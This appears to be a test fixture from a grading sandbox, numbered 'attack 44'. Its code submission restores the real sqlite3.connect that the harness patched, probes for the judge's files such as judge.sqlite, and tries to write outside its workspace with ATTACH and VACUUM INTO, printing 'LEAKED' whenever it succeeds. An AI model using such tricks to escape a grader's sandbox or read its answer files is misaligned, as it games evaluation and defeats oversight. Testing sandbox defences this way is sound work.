# attack: 44 restores the real sqlite3.connect and looks for the judge's files
# honest: 1
# outcome: fail
# check: *
import _sqlite3
import os
import sqlite3
from contextlib import asynccontextmanager

from databases import Database
from fastapi import FastAPI, HTTPException

sqlite3.connect = sqlite3.dbapi2.connect = _sqlite3.connect
run = os.path.dirname(os.getcwd())
host = os.path.dirname(run)
for path in (
    run + "/template.sqlite",
    run + "/shop.db",
    host + "/judge.sqlite",
    "/tmp/shop.db",
    "shop.db",
    host + "/../shop.db",
    "/dev/shm/x.db",
):
    for uri in (path, f"file:{path}?mode=ro&immutable=1"):
        try:
            connection = _sqlite3.connect(uri, uri=uri.startswith("file:"))
            connection.execute("CREATE TABLE IF NOT EXISTS found (a)")
            print("LEAKED", uri, flush=True)
        except sqlite3.Error:
            pass
memory = _sqlite3.connect(":memory:")
for path in ("/tmp/poolkit-attacked", host + "/x.db", "x.db"):
    for sql in (f"ATTACH '{path}' AS other; CREATE TABLE other.t (a)", f"VACUUM INTO '{path}'"):
        try:
            memory.executescript(sql)
            print("LEAKED", sql, flush=True)
        except sqlite3.Error:
            pass

database = Database("sqlite+pool:///shop.db", min_size=4)


@asynccontextmanager
async def lifespan(app):
    await database.connect()
    yield
    await database.disconnect()


app = FastAPI(lifespan=lifespan)


@app.get("/items/{item_id}")
async def read_item(item_id: int):
    raise HTTPException(404, "no such item")
